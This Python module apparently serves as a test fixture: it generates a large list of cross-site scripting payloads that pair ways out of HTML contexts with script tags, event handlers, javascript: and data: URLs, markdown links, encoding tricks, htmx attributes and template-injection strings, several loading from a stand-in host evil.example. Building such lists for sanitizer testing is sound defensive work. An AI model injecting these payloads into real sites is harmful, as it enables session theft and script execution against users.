"""Texts that try to run a script in a reader's browser: the ways out of a context, combined with what runs there."""

from itertools import product

HARM = "window.harmed=1"
"""What each of them runs if it can."""

_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title></script>", "--></style></noscript>", "</option></select></p>")
_ELEMENTS = (
    "<script>{harm}</script>",
    "<ScRiPt/x>{harm}</ScRiPt>",
    "<svg><script>{harm}</script></svg>",
    "<script src=data:text/javascript,{harm}></script>",
    "<img src=x onerror={harm}>",
    "<img/src='x'/onerror='{harm}'>",
    "<svg/onload={harm}>",
    "<body onload={harm}>",
    "<input autofocus onfocus={harm}>",
    "<details open ontoggle={harm}><summary>x</summary></details>",
    "<video><source onerror={harm}></video>",
    "<p style=animation-name:x onanimationstart={harm}>",
    "<iframe srcdoc='<script>parent.{harm}</script>'></iframe>",
    "<iframe src='javascript:parent.{harm}'></iframe>",
    "<object data='javascript:{harm}'></object>",
    "<embed src='javascript:{harm}'>",
    "<form action='javascript:{harm}'><button id=evil>x</button></form>",
    "<math><a xlink:href='javascript:{harm}'>x</a></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{harm}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';</style>",
    "<template><script>{harm}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={harm}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={harm}>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div data-hx-get=/evil data-hx-trigger=load></div>",
    "<div hx-on:load={harm} hx-on--load={harm}></div>",
)
_ATTRIBUTES = (
    '" autofocus onfocus="{harm}',
    "' autofocus onfocus='{harm}",
    "x onmouseover={harm} y=",
    '" style="background:url(//evil.example/a)" x="',
    '" hx-get="/evil" hx-trigger="load" x="',
    "` onerror={harm} x=`",
)
_ADDRESSES = (
    "javascript:{harm}",
    "JaVaScRiPt:{harm}",
    "java\tscript:{harm}",
    " javascript:{harm}",
    "java&#115;cript:{harm}",
    "javascript&colon;{harm}",
    "\u200bjavascript:{harm}",
    "javascript://example.org/%0a{harm}",
    "vbscript:{harm}",
    "data:text/html,<script>{harm}</script>",
    "blob:https://example.org/{harm}",
    'https://example.org/"onmouseover="{harm}',
    "https://example.org/'onmouseover='{harm}",
    "https://example.org/`onmouseover=`{harm}",
    "//evil.example/",
)
_LINKS = ("{address}", "[x]({address})", "![x]({address})", "<{address}>", "[x][1]\n\n[1]: {address}")
_OTHERS = (
    "{{{{ 7*7 }}}}{{% raw %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "${{{harm}}}",
    "%(name)s {{agent}} {{0}}",
    "\\x3cscript\\x3e{harm}\\x3c/script\\x3e",
    "+ADw-script+AD4-{harm}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{harm}\uff1c/script\uff1e",
    "&lt;script&gt;{harm}&lt;/script&gt;",
    "%3Cscript%3E{harm}%3C/script%3E",
    "\u202e<script>{harm}</script>\u202c",
    "`<script>{harm}</script>`",
    "```\n</code><script>{harm}</script>\n```",
    "**<img src=x onerror={harm}>**",
    "- <svg onload={harm}>\n- x",
    "<" * 200 + "script>{harm}",
    "<img src=x onerror={harm}//" + "x" * 100,
)

PAYLOADS = tuple(
    text.format(harm=HARM)
    for text in (
        *(out + element for out, element in product(_WAYS_OUT, _ELEMENTS)),
        *_ATTRIBUTES,
        *(link.replace("{address}", address) for link, address in product(_LINKS, _ADDRESSES)),
        *_OTHERS,
    )
)
